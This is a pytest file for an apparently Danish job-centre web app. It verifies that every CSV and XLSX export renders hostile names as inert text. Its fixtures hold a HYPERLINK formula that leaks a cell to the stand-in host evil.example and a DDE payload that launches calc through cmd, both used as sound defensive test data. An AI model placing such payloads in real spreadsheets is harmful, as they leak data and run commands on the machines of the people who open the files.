"""Spreadsheet formula injection: a hostile name comes out of every CSV and XLSX export as
inert text - never a formula that runs when a caseworker opens the file."""

import csv
import io
from datetime import date

import pytest
from django.test import Client
from django_tenants.utils import schema_context
from openpyxl import load_workbook

from tests.conftest import TENANTS

from .test_isolation import a_objects, url_patterns

HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'
HOSTILE_CENTRE = "+SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def world(tenant_a):
    from candidates.models import Candidate
    from centers.models import Centre
    from reports.services import kpi_job_execute, kpi_job_queue

    objects = a_objects(tenant_a)
    with schema_context("alpha"):
        Candidate.objects.update(name=HOSTILE)
        Centre.objects.update(name=HOSTILE_CENTRE)
        chef = objects["users"]["jobcenterchef"]
        run = kpi_job_queue(
            period_from=date(2025, 1, 1), period_to=date(2025, 3, 31), acting_user=chef
        )
        kpi_job_execute(job_run_id=run.pk)
    return objects


def client_as(world, role):
    client = Client(HTTP_HOST=TENANTS["alpha"]["domain"])
    with schema_context("alpha"):
        client.force_login(world["users"][role])
    return client


def exports(world):
    """(role, url) of every export of the URL conf, each format."""
    candidate = world["by_name"]["candidates:pk"]
    centre = world["by_name"]["mentors:centre_export"]
    period = "?period_from=2025-01-01&period_to=2025-03-31"
    urls = []
    for fmt in ("csv", "xlsx"):
        urls += [
            ("jobkonsulent", f"/kandidater/?eksport={fmt}"),
            ("jobkonsulent", f"/kandidater/venteliste/?eksport={fmt}"),
            ("jobkonsulent", f"/kandidater/forloeb/?eksport={fmt}"),
            ("jobkonsulent", f"/afregning/maaned/2025-02/afregning.{fmt}"),
        ]
        for table in ("centre", "virksomheder", "udslusning"):
            urls.append(("jobcenterchef", f"/statistik/eksport/{table}.{fmt}{period}"))
    urls.append(("jobkonsulent", f"/mentor/center/{centre}/fremmoede.csv"))
    urls.append(("jobcenterchef", f"/revision/kandidat/{candidate}/adgangslog.csv"))
    return urls


def cells(response) -> list:
    body = response.content
    if response["Content-Type"].startswith("text/csv"):
        text = body.decode("utf-8-sig")
        return [value for row in csv.reader(io.StringIO(text), delimiter=";") for value in row]
    book = load_workbook(io.BytesIO(body))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula cell in {sheet.title}: {cell.value}"
                found.append(cell.value)
    return found


def test_every_export_route_of_the_url_conf_is_covered():
    names = {name for name, _route in url_patterns() if "export" in name}
    assert names == {
        "mentors:centre_export",
        "audit:access_export",
        "audit:data_export",  # JSON: no spreadsheet reads it
        "billing:export_csv",
        "billing:export_xlsx",
        "reports:export",
        # Figure labels (fixed) and numbers only; the analyst's, with the jobcentres' names,
        # is in the platform's URL conf: tests/national (a formula-like name stays text).
        "national:comparison_export",
    }, "a new export: add it to exports() here"


def test_a_hostile_name_is_inert_text_in_every_csv_and_xlsx_export(world):
    seen_hostile = 0
    for role, url in exports(world):
        response = client_as(world, role).get(url)
        assert response.status_code == 200, url
        values = cells(response)
        is_csv = response["Content-Type"].startswith("text/csv")
        for value in values:
            if not isinstance(value, str):
                continue
            if is_csv:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (url, value)
        texts = [v for v in values if isinstance(v, str)]
        if any(HOSTILE in v or HOSTILE_CENTRE in v for v in texts):
            seen_hostile += 1
    # The names are really in the files (as text): the test sees what it checks.
    assert seen_hostile >= 10
